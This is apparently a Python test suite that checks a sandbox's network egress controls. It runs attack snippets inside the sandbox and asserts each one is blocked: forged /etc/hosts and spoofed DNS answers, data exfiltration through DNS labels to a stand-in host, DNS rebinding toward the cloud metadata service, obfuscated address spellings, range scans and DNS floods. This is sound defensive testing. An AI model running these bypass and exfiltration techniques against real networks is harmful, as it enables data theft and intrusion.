"""Attacks through the name service, and by addresses that are not what they seem (security catalogue 1A, 1B)."""

import asyncio

from tests.support import internet_ns
from tests.support.cases import case
from tests.support.internet import BOUND, CDN, EVIL
from tests.support.range import CANARY, POLICY, Range

from space.host import command

INSIDE = (internet_ns.METADATA, "10.99.0.5", "127.0.0.1", "0.0.0.0", "100.64.0.3", internet_ns.HOST_PUBLIC)
"""Where names of the policy point that must not be dialled."""


@case("D-01", "an allowed and a bound name in /etc/hosts, at the attacker's address", "packets, sink", core=True)
async def forged_hosts(r: Range) -> None:
    async with r.nothing_leaves(EVIL, names=("evil.test",)):
        out = await r.run(
            r.a,
            f"""
import subprocess
with open("/etc/hosts") as f: old = f.read()
def curl(url): return subprocess.run(["curl", "-sS", "-m", "20", "-o", "/dev/null", "-w", "%{{http_code}}", url],
                                     capture_output=True, text=True).stdout
with open("/etc/hosts", "a") as f: f.write("{EVIL} allowed.test bound.test\\n")
try: forged = [curl("https://allowed.test/public/x"), curl("https://bound.test/api/x")]
finally:
    with open("/etc/hosts", "w") as f: f.write(old)
show([forged, curl("https://allowed.test/public/x")])
""",
        )
    assert out == [["000", "000"], "200"], out
    assert not r.net.seen("sink")


@case("D-02", "answers forged in the name of the gateway's resolver", "counter at the tap, the resolver's record")
async def forged_answers(r: Range) -> None:
    before = await r.counted(r.slot_path(r.a), "ip saddr != 169.254.0.21")
    async with r.nothing_leaves(EVIL):
        sent = await r.run(
            r.a,
            """
answer = question("allowed.test", flags=0x8180)[:6] + b"\\0\\1\\0\\0\\0\\0" + question("allowed.test")[12:]
answer += b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\1\\0\\0\\4" + socket.inet_aton("203.0.113.66")
show(frames(udp("100.64.0.2", port, answer, source="203.0.113.53", sport=53) for port in range(32768, 33168)))
""",
        )
    assert await r.counted(r.slot_path(r.a), "ip saddr != 169.254.0.21") >= before + sent
    await r.control()


@case(
    "D-04",
    "data in the labels of a name that is not allowed, by DNS and by HTTP",
    "the name server's record",
    core=True,
)
async def exfiltration_by_name(r: Range) -> None:
    out = await r.run(
        r.a,
        """
data = os.urandom(12).hex()
out = [lookup(f"{data}.exfil.test", kind, tcp) for kind in (A, AAAA, TXT, ANY, HTTPS) for tcp in (False, True)]
out.append(fetch("allowed.test", "/public/x", host=f"{data}.exfil.test")["status"])
out.append(fetch("allowed.test", "/public/x", host=f"{data}.exfil.test", port=80, tls=False)["status"])
show(out)
""",
    )
    assert all(answer[0] in (0, 5) and not answer[1] for answer in out[:-2]), out
    assert out[-2:] == [421, 421], out
    assert not [line for line in r.net.seen("dns") if "exfil" in line["name"]]
    await r.control()
    assert [line for line in r.net.seen("dns") if line["name"] == "allowed.test"]  # the record does record


@case("D-05", "data in the labels of a name under an allowed wildcard, by lookups alone", "the name server's record")
async def exfiltration_by_wildcard(r: Range) -> None:
    found = await r.run(r.a, "show([lookup(f'{os.urandom(8).hex()}.wild.allowed.test')[0] for _ in range(300)])")
    assert found.count(0) > 0
    assert not [line for line in r.net.seen("dns") if line["name"].endswith("wild.allowed.test")]


@case("D-07", "resolvers of others, by UDP, TCP, and on other ports", "packets")
async def foreign_resolvers(r: Range) -> None:
    others = ("8.8.8.8", "9.9.9.9", "203.0.113.53")
    async with r.nothing_leaves(*others):
        out = await r.run(
            r.a,
            f"""
out = [lookup(name, server=server, tcp=tcp) for server in {others!r} for tcp in (False, True)
       for name in ("denied.test", "allowed.test")]
frames(udp(server, port, question("denied.test")) for server in {others!r} for port in (53, 5353, 5300, 853, 784))
show([out, dial([(server, port) for server in {others!r} for port in (853, 5353)])])
""",
        )
    assert [answer and answer[0] for answer in out[0]] == [5, 0] * 6, out  # whoever is asked, ours answers
    assert set(out[1]) == {"ECONNREFUSED"}, out


@case("D-08", "DNS over TLS, QUIC and HTTPS", "packets")
async def encrypted_dns(r: Range) -> None:
    async with r.nothing_leaves("1.1.1.1", "8.8.4.4", names=("dns.google",)):
        out = await r.run(
            r.a,
            """
frames(udp("1.1.1.1", port, b"x" * 1200) for port in (853, 443, 784))
show([dial([("1.1.1.1", 853), ("1.1.1.1", 443), ("8.8.4.4", 443)]), lookup("dns.google")[0],
      fetch("allowed.test", "/public/x", host="dns.google")["status"]])
""",
        )
    assert out == [["ECONNREFUSED"] * 3, 5, 421], out


@case("D-11", "a name whose second answer is the metadata service", "packets, the name server's record")
async def rebinding(r: Range) -> None:
    async with r.nothing_leaves(*INSIDE):
        out = await r.run(
            r.a,
            """
import time
out = []
until = time.monotonic() + 30
while time.monotonic() < until and out[-3:] != [502] * 3:
    out.append(fetch("rebind.test")["status"])
    time.sleep(0.5)
show(out)
""",
        )
    assert out[0] == 200, out
    assert out[-3:] == [502] * 3, out
    assert len([line for line in r.net.seen("dns") if line["name"] == "rebind.test"]) >= 2


@case("D-12", "allowed names that point to metadata, host, slots, private and null addresses", "packets", core=True)
async def names_pointing_inside(r: Range) -> None:
    names = ("meta.test", "intranet.test", "zero.test", "loop.test", "slot.test", "hosts.test")
    async with r.nothing_leaves(*INSIDE, names=names):
        out = await r.run(r.a, f"show([fetch(name).get('json', {{}}).get('code') for name in {names!r}])")
    assert out[:5] == ["not_resolved"] * 5, out
    assert out[5] == "egress_failed", out  # the host's own address: the packet rules refuse it, whatever the name says
    await r.control()


@case("D-14", "IPv6: lookups, sockets, and packets on the wire", "packets, replies")
async def ipv6(r: Range) -> None:
    async with r.nothing_leaves():
        before = len(r.net.packets(protocol="ethertype 0x86dd"))
        out = await r.run(
            r.a,
            """
out = [lookup("allowed.test", AAAA)]
try: socket.create_connection(("2001:4860:4860::8888", 53), 2); out.append("open")
except OSError: out.append("no")
head = struct.pack("!IHBB", 0x60000000, 8, 17, 64) + socket.inet_pton(socket.AF_INET6, "fe80::1")
frames((head + socket.inet_pton(socket.AF_INET6, to) + struct.pack("!HHHH", 5, 53, 8, 0)
        for to in ("2001:4860:4860::8888", "fe80::2", "ff02::1")), kind=0x86DD)
show([out, replies(0.5)])
""",
        )
    assert out[0] == [[0, []], "no"], out
    assert len(r.net.packets(protocol="ethertype 0x86dd")) == before


@case("D-16", "spellings of a name that a rule denies under an allowed wildcard", "requests that arrive")
async def spellings(r: Range) -> None:
    """Also D-17 and H-19: the deny rule is for x.wild.allowed.test."""
    odd = (
        "x.wild.allowed.test", "X.WILD.allowed.TEST", "x.wild.allowed.test.", "x.wild.allowed.test..",
        "[x.wild.allowed.test]", "x.wild.allowed.test%20", "x.wild.allowed.test\\x00.wild.allowed.test",
        "x.wild.allowed.test:443@ok.wild.allowed.test", "x%2ewild.allowed.test", "\\u0430llowed.test",
        "x.wild.allowed.test ",
    )  # fmt: skip
    async with r.nothing_leaves(names=("x.wild.allowed.test",)):
        out = await r.run(
            r.a,
            f"""
names = [{", ".join(f'"{name}"' for name in odd)}]
out = []
for name in names:
    data = name.encode("idna" if ord(name[0]) > 127 else "latin-1").decode("latin-1")
    answer = lookup(data) if ".." not in data else None
    status = fetch("ok.wild.allowed.test", "/", host=data).get("status")
    with socket.create_connection((address_of("ok.wild.allowed.test"), 443), 5) as s:
        s.settimeout(10)
        s.sendall(client_hello(data))
        try: first = s.recv(1)
        except OSError: first = b""
    out.append([answer and answer[1], status, first == b"\\x16"])
show([out, fetch("ok.wild.allowed.test")["status"]])
""",
        )
    for name, (addresses, by_host, by_handshake) in zip(odd, out[0], strict=True):
        assert not addresses, (name, addresses)
        assert by_host != 200, (name, by_host)
        assert not by_handshake, name
    assert out[1] == 200


@case(
    "D-18", "malformed DNS: loops, lengths, counts, opcodes, floods by TCP and UDP", "gateway's pid, counter at the tap"
)
async def malformed_dns(r: Range) -> None:
    """Also D-09."""
    pid, rule = r.space.daemon_pid("gateway"), "udp dport 53 limit rate over"
    dropped = await r.counted(r.slot_path(r.a), rule)
    await r.run(
        r.a,
        r"""
q = question("allowed.test")
odd = [q[:2] + b"\x81\x80" + q[4:], q[:4] + b"\0\0" + q[6:], q[:4] + b"\xff\xff" + q[6:],
       q[:12] + b"\xc0\x0c\0\1\0\1",
       q[:12] + b"\x40" + b"a" * 64 + b"\0\0\1\0\1", question(".".join(["a" * 60] * 5)), b"",
       b"x", q[:15], os.urandom(400)]
for data in odd: send(data, timeout=0.1)
open_ones = []
for _ in range(40):
    s = socket.create_connection((NAME_SERVER, 53), 5); s.sendall(struct.pack("!H", 65535) + q); open_ones.append(s)
frames(udp(NAME_SERVER, 53, q, sport=1024 + n) for n in range(3000))
show(len(open_ones))
""",
    )
    assert await r.counted(r.slot_path(r.a), rule) > dropped
    await r.control()
    assert r.space.daemon_pid("gateway") == pid


@case("A-01", "TLS and HTTP to addresses instead of names", "packets", core=True)
async def addresses_for_names(r: Range) -> None:
    """Also A-02: spellings of addresses as a host."""
    async with r.nothing_leaves(CDN, BOUND, EVIL):
        out = await r.run(
            r.a,
            f"""
hosts = ["203.0.113.20", "2130706433", "0x7f.1", "0177.0.0.1", "127.1", "[::1]", "[::ffff:127.0.0.1]", "1.1",
         "\\uff11\\uff12\\uff17.1"]
show([dial([({CDN!r}, 443), ({BOUND!r}, 443), ({EVIL!r}, 443), ({EVIL!r}, 4444)]),
      [fetch("allowed.test", "/public/x", host=h.encode().decode("latin-1")).get("status") for h in hosts],
      [lookup(h)[0] for h in hosts if h.isascii()]])
""",
        )
    assert out[0] == ["ECONNREFUSED"] * 4, out
    assert not {200} & set(out[1]), out
    assert set(out[2]) <= {1, 5}, out


@case(
    "A-06", "every special range, metadata service and host address, by TCP, UDP and ICMP", "packets, host's counters"
)
async def special_ranges(r: Range) -> None:
    """Also A-05, A-07 and A-09."""
    special = [
        "0.0.0.1", "10.0.0.1", "10.99.0.1", "10.99.0.5", "100.100.100.200", "127.0.0.1", "168.63.129.16",
        "169.254.169.254", "169.254.170.2", "169.254.170.23", "172.17.0.1", "192.0.0.192", "192.0.2.1", "192.168.0.1",
        "198.51.100.1", "203.0.113.1", "224.0.0.1", "240.0.0.1", "255.255.255.255", r.slot(r.b).address,
        r.slot(r.b).gateway_address, r.slot(r.a).address, r.slot(r.a).gateway_address,
    ]  # fmt: skip
    async with r.nothing_leaves(*special):
        out = await r.run(
            r.a,
            f"""
special = {special!r}
frames(tcp(address, port, sport=41000 + port) for address in special for port in (22, 80, 443, 6443))
frames(udp(address, port, b"x") for address in special for port in (80, 123, 443, 4789))
echo = struct.pack("!H", checksum(b"\\x08\\0\\0\\0\\0\\1\\0\\1"))
frames(ip(address, 1, b"\\x08\\0" + echo + b"\\0\\1\\0\\1") for address in special)
got = replies(1)
show([[reply for reply in got if reply[1] != 6],
      dial([(address, 80) for address in special if address != "127.0.0.1"])])
""",
        )
    assert out[0] == [], f"answered: {out[0]}"
    assert "open" not in out[1], out
    await r.control()


@case("C-10", "the control surface: sockets of SPACE, the agent's internal ports, the API's port", "who may connect")
async def control_surface(r: Range) -> None:
    """Also EGRESS-C3: on the host, a user that is no part of SPACE."""
    out = await r.run(
        r.a,
        f"show(dial([('169.254.0.22', p) for p in (49981, 49982, 49983, 15001, 15002, 15053, 22, {r.space.port})]"
        f" + [('203.0.113.1', {r.space.port}), ('{r.slot(r.b).address}', 49983)]))",
    )
    assert "open" not in out, out
    script = (
        "import os, socket, sys\nos.setgroups([]); os.setgid(12345); os.setuid(12345)\n"
        "for path in sys.argv[1:]:\n s = socket.socket(socket.AF_UNIX)\n"
        " try: s.connect(path); print('open', path)\n except OSError: pass"
    )
    sockets = [str(path) for path in r.space.run_dir.rglob("*.sock")]
    assert len(sockets) >= 5, sockets
    process = await asyncio.create_subprocess_exec(
        "/usr/bin/python3", "-c", script, *sockets, stdout=asyncio.subprocess.PIPE
    )
    told, _ = await process.communicate()
    assert told == b"", told


@case("P-01", "a sandbox without a policy", "packets, requests that arrive")
async def no_policy(r: Range) -> None:
    bare = await r.make(None)
    try:
        async with r.nothing_leaves(CDN, EVIL, names=("allowed.test",)):
            out = await r.run(
                bare,
                "show([lookup('allowed.test'), dial([('203.0.113.20', 443), ('203.0.113.66', 80)]),"
                " fetch('allowed.test', '/public/x', address='198.18.0.1')])",
            )
        assert out[0] == [5, []], out
        assert out[1] == ["ECONNREFUSED"] * 2, out
        assert out[2].get("status") != 200, out
    finally:
        await r.space.delete(bare)
    await r.control()


@case("EGRESS-C4", "packets to and of a sandbox that was just deleted", "sockets, packets")
async def recycled_slot(r: Range) -> None:
    """C4: sockets of a dead slot stayed, and what was for it left by the uplink."""
    gone = await r.make(POLICY)
    address = r.slot(gone).address
    lines = "s = connect('allowed.test')\nprint('ready')\ns.recv(1)"
    async with r.running(gone, lines) as output:
        assert await output.line() == "ready"
        assert await r.sockets(address) > 0
        async with r.nothing_leaves(address):
            await r.space.delete(gone)
            assert await r.sockets(address) == 0
            probe = (
                f"import os, socket\nos.setuid({r.layout.egress_uid})\ns = socket.socket(); s.settimeout(1)\n"
                f"try: s.connect(({address!r}, 49983)); print('open')\nexcept OSError: print('no')"
            )
            done = await command.run("/usr/bin/python3", "-c", probe, netns=r.gateway)
            assert done.stdout.strip() == "no"
    assert CANARY not in str(r.net.seen("sink"))
